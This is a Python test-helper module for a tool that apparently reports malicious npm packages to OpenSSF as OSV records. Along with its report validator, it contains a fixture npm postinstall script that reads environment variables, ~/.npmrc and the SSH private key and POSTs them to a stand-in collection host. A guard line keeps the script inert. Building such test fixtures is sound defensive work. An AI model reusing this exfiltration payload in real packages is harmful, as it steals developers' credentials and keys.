"""reportlib.py - what the tests of `qanat report` share: packages to report, and what OpenSSF would say about a record."""
import base64
import json
import os
import re

from tap import package

GOOD = {"package.json": package("fine"), "index.js": "module.exports = 1;\n"}
# Inert: the hosts do not exist, and the first line ends the script.
SETUP = """if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');
const loot = {
  env: process.env,
  npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'),
  key: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'),
};
fetch('https://me:hunter2@collect.example.invalid/in/9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6?key=1', {
  method: 'POST', body: JSON.stringify(loot), headers: { authorization: 'Bearer npm_9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6Md4Sg8AhXy12' },
});
"""
SECRETS = ("9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6", "hunter2")


def bad(name="evil", version="1.0.0", **more):
    return {"package.json": package(name, version, scripts={"postinstall": "node setup.js"}, **more),
            "setup.js": SETUP, "index.js": "module.exports = {};\n"}


def domain_ok(d):
    return re.fullmatch(r"[A-Za-z0-9_.-]{1,255}", d) and all(0 < len(x) <= 63 for x in d.split("."))


def complaints(doc):
    """What OpenSSF's validation and its guide for contributors would say: docs/schema_additions.md, CONTRIBUTING.md,
    internal/report/validate.go and indicators.go there."""
    bad = []

    def want(cond, what):
        if not cond:
            bad.append(what)

    want(not {"id", "summary", "withdrawn", "severity"} & set(doc), "fields that are given there")
    want(set(doc) <= {"schema_version", "modified", "published", "details", "affected", "references", "credits",
                      "database_specific"}, "unknown fields")
    want(re.fullmatch(r"1\.\d+\.\d+", doc.get("schema_version", "")), "schema_version")
    for key in ("modified", "published"):
        want(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", doc.get(key, "")), key)
    want(doc.get("details", "").strip(), "details")
    want(len(doc.get("affected", [])) == 1, "one affected")
    for a in doc.get("affected", []):
        want(set(a) <= {"package", "ranges", "versions", "database_specific"}, "fields of affected")
        want(a["package"].get("ecosystem") == "npm" and a["package"].get("name"), "package")
        want(a.get("versions") or a.get("ranges"), "versions or ranges")
        want(len(set(a.get("versions", []))) == len(a.get("versions", [])), "versions are unique")
        for r in a.get("ranges", []):
            want(r["type"] == "SEMVER" and any("introduced" in e for e in r["events"]), "range")
            want(all(len(e) == 1 for e in r["events"]), "events")
        ds = a.get("database_specific", {})
        want(set(ds) <= {"cwes", "indicators", "iocs", "ghsa"}, "keys of affected.database_specific")
        want(all(isinstance(v, (dict, list)) for v in ds.values()), "scalars are stripped")
        for p in ds.get("indicators", {}).get("package_integrity", []):
            hashes = p["hashes"]
            want(p["filename"].endswith(".tgz") and hashes and set(hashes) <= {"sha1", "sha512_sri"}, "integrity")
            want("sha512_sri" not in hashes or len(base64.b64decode(hashes["sha512_sri"][7:])) == 64, "sha512")
            want("sha1" not in hashes or re.fullmatch(r"[0-9a-f]{40}", hashes["sha1"]), "sha1")
        for f in ds.get("indicators", {}).get("evidence_files", []):
            want(re.fullmatch(r"[0-9a-f]{64}", f.get("sha256", "0" * 64)), "sha256")
            want(f["path"] and f["evidence"] and all(e["rule"] and e["offset"] >= 0 for e in f["evidence"]), "evidence")
    ds = doc.get("database_specific", {})
    want(set(ds) <= {"malicious-packages-origins", "iocs"}, "keys of database_specific")
    iocs = ds.get("iocs", {})
    want(set(iocs) <= {"domains", "ips", "urls", "files"}, "keys of iocs")
    want(all(domain_ok(d) for d in iocs.get("domains", [])), "domains")
    want(all(re.fullmatch(r"hxxps?://[A-Za-z0-9_.-]+(:\d+)?/[^\s?#]*", u) for u in iocs.get("urls", [])), "urls")
    for c in doc.get("credits", []):
        want(c["name"] and c["type"] == "FINDER" and isinstance(c.get("contact", []), list), "credits")
    for r in doc.get("references", []):
        want(r["type"] == "PACKAGE" and r["url"].startswith("https://"), "references")
    return bad + schema_complaints(doc)


def schema_complaints(doc):
    """What the OSV schema itself says, where it lies beside the project; an id is OpenSSF's to give."""
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.environ.get("QANAT_OSV_SCHEMA") or os.path.join(here, "../../../shared/intel/osv-schema.json")
    try:
        import jsonschema
        schema = json.load(open(path))
    except (ImportError, OSError):
        return []
    return [e.message for e in jsonschema.Draft202012Validator(schema).iter_errors({"id": "MAL-2026-1", **doc})]
